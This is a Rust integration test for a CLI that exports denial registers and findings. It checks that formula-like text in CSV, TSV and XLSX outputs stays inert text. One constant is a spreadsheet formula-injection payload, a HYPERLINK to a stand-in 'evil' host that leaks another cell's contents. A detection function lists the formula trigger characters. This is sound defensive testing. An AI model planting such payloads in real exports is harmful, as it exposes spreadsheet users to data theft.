//! Spreadsheet formula injection: text from the exports that a spreadsheet would take for a
//! formula (a denial reason `=HYPERLINK(…)`, an approver `@SUM(1+1)`) comes out of every CSV and
//! XLSX the CLI writes as text — `'`-prefixed in CSV, a quote-prefixed string cell in XLSX —
//! read back with the csv crate and calamine.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use crate::common::Env;
use crate::reports::{all_files, seed};

const REASON: &str = "=HYPERLINK(\"http://evil/?\"&B2,\"详情\")";
const APPROVER: &str = "@SUM(1+1)";
/// A register id that starts with `+`: it is also the 对象编号 of a red finding (no legal basis).
const REGISTER_ID: &str = "+D-H02-7";

/// The reports' warehouse plus a denial whose cells are formulas.
fn seed_hostile(env: &Env) {
    seed(env);
    let denials = format!(
        "备案编号,办件编号,大厅编码,事项编码,申请人,否定类型,决定时间,否定理由,法律政策依据,审批方式,审批人,书面告知时间,备案时间,是否归档\n\
         {REGISTER_ID},C-H02-3,H02,I1,欧阳修,不予批准,2026-10-14 09:00:00,\"{}\",,分管领导,{APPROVER},2026-10-15 10:00:00,2026-10-16 10:00:00,是\n",
        REASON.replace('"', "\"\"")
    );
    env.write("denials-hostile.csv", denials);
    env.ww(&["ingest", "--table", "denials", "denials-hostile.csv"]).ok();
}

/// Whether a spreadsheet would take the cell for a formula (the test's own reading of OWASP,
/// apart from the code under test): a plain number is data.
fn dangerous(cell: &str) -> bool {
    let starts = cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    starts && cell.trim().parse::<f64>().is_err()
}

/// Every cell of a CSV (BOM or not), read with the csv crate.
fn csv_cells(p: &Path, delimiter: u8) -> Vec<String> {
    let bytes = std::fs::read(p).unwrap();
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf".as_slice()).unwrap_or(&bytes);
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).delimiter(delimiter).from_reader(bytes);
    r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

fn assert_csv_safe(p: &Path, delimiter: u8) -> Vec<String> {
    let cells = csv_cells(p, delimiter);
    for c in &cells {
        assert!(!dangerous(c), "{}: unescaped formula cell {c:?}", p.display());
    }
    cells
}

/// (row, column) of every quote-prefixed cell of each sheet, by sheet position, from the XML.
fn quote_prefixed(p: &Path) -> Vec<BTreeSet<(u32, u32)>> {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(p).unwrap()).unwrap();
    let mut read = |name: &str| {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut archive.by_name(name).unwrap(), &mut s).unwrap();
        s
    };
    let styles = read("xl/styles.xml");
    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
    let prefixed: Vec<bool> = regex::Regex::new(r"<xf\b[^>]*>").unwrap().find_iter(xfs).map(|m| m.as_str().contains("quotePrefix=\"1\"")).collect();
    let cell = regex::Regex::new(r#"<c r="([A-Z]+)(\d+)"(?: s="(\d+)")?"#).unwrap();
    let mut out = Vec::new();
    for n in 1.. {
        let Ok(mut f) = archive.by_name(&format!("xl/worksheets/sheet{n}.xml")) else { break };
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut f, &mut xml).unwrap();
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{}: a formula cell\n{xml}", p.display());
        let mut set = BTreeSet::new();
        for c in cell.captures_iter(&xml) {
            let style: usize = c.get(3).map_or(0, |s| s.as_str().parse().unwrap());
            if prefixed.get(style).copied().unwrap_or(false) {
                let col = c[1].bytes().fold(0u32, |a, b| a * 26 + u32::from(b - b'A' + 1)) - 1;
                set.insert((c[2].parse::<u32>().unwrap() - 1, col));
            }
        }
        out.push(set);
    }
    out
}

/// Reads an XLSX with calamine: no formula cells, and every text cell that looks like a formula
/// is quote-prefixed. Returns each sheet's cells as text.
fn assert_xlsx_safe(p: &Path) -> Vec<String> {
    use calamine::{Data, Reader, open_workbook_auto};
    let prefixed = quote_prefixed(p);
    let mut wb = open_workbook_auto(p).unwrap();
    let mut texts = Vec::new();
    for (k, name) in wb.sheet_names().iter().enumerate() {
        assert!(wb.worksheet_formula(name).unwrap().used_cells().next().is_none(), "{}: formulas in {name}", p.display());
        let range = wb.worksheet_range(name).unwrap();
        let (r0, c0) = range.start().unwrap_or((0, 0));
        for (r, c, v) in range.used_cells() {
            if let Data::String(s) = v {
                let at = (r0 + r as u32, c0 + c as u32);
                assert!(!dangerous(s) || prefixed[k].contains(&at), "{}: {name} {at:?} {s:?} is not quote-prefixed", p.display());
                texts.push(s.clone());
            }
        }
    }
    texts
}

#[test]
fn formula_text_from_the_exports_stays_text_in_every_csv_and_xlsx() {
    let env = Env::new();
    seed_hostile(&env);
    let now = [("WINDOWWATCH_NOW", "2026-11-02 08:00:00")];
    env.ww_env(&["register", "--month", "2026-10", "--as-of", "2026-11-02 08:00:00", "--out", "reports"], &now).ok();
    env.ww_env(&["register", "--month", "2026-10", "--format", "csv", "--as-of", "2026-11-02 08:00:00", "--out", "reports"], &now).ok();
    env.ww_env(&["report", "monthly", "--month", "2026-10", "--out", "reports"], &now).ok();
    let q = "SELECT register_id, reason, approver, 1 AS n, -2.5 AS x FROM denial_register ORDER BY register_id";
    for out in ["q.csv", "q.tsv", "q.xlsx"] {
        env.ww(&["sql", "-c", q, "-o", out]).ok();
    }
    for out in ["findings.csv", "findings.xlsx"] {
        // Exit code 1: there are red findings.
        let r = env.ww(&["check", "--as-of", "2026-11-02 08:00:00", "--no-record", "-o", out]);
        assert_eq!(r.code, 1, "{}", r.stderr);
    }

    let mut seen: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut files = all_files(&env.path("reports"));
    files.extend(["q.csv", "q.tsv", "q.xlsx", "findings.csv", "findings.xlsx"].map(|f| env.path(f)));
    for f in &files {
        let name = f.strip_prefix(env.path("")).unwrap().display().to_string();
        match f.extension().and_then(|e| e.to_str()) {
            Some("csv") => seen.insert(name, assert_csv_safe(f, b',')),
            Some("tsv") => seen.insert(name, assert_csv_safe(f, b'\t')),
            Some("xlsx") => seen.insert(name, assert_xlsx_safe(f)),
            _ => None,
        };
    }
    let has = |file: &str, cell: &str| seen.get(file).unwrap_or_else(|| panic!("no {file} in {:?}", seen.keys())).iter().any(|c| c == cell);
    // CSV/TSV: the text with `'` in front, readable; XLSX: the text as written (the format hides the `'`).
    for file in ["reports/jia/否定备案登记表-jia-2026-10.csv", "q.csv", "q.tsv"] {
        for cell in [REASON, APPROVER, REGISTER_ID] {
            assert!(has(file, &format!("'{cell}")), "{file} lacks '{cell}: {:?}", seen[file]);
        }
    }
    for file in ["reports/jia/否定备案登记表-jia-2026-10.xlsx", "q.xlsx"] {
        for cell in [REASON, APPROVER, REGISTER_ID] {
            assert!(has(file, cell), "{file} lacks {cell}: {:?}", seen[file]);
        }
    }
    // The red finding against the register row (no legal basis), in the monthly attachments and `check`.
    let red = "reports/jia/monthly-2026-10-red-findings";
    assert!(has(&format!("{red}.csv"), &format!("'{REGISTER_ID}")), "{:?}", seen[&format!("{red}.csv")]);
    assert!(has(&format!("{red}.xlsx"), REGISTER_ID));
    assert!(has("findings.csv", &format!("'{REGISTER_ID}")) && has("findings.xlsx", REGISTER_ID));
    // Numbers stay numbers.
    let q_csv = std::fs::read_to_string(env.path("q.csv")).unwrap();
    assert!(q_csv.starts_with("register_id,reason,approver,n,x\n"), "{q_csv}");
    assert!(q_csv.contains(",1,-2.5\n"), "{q_csv}");
}
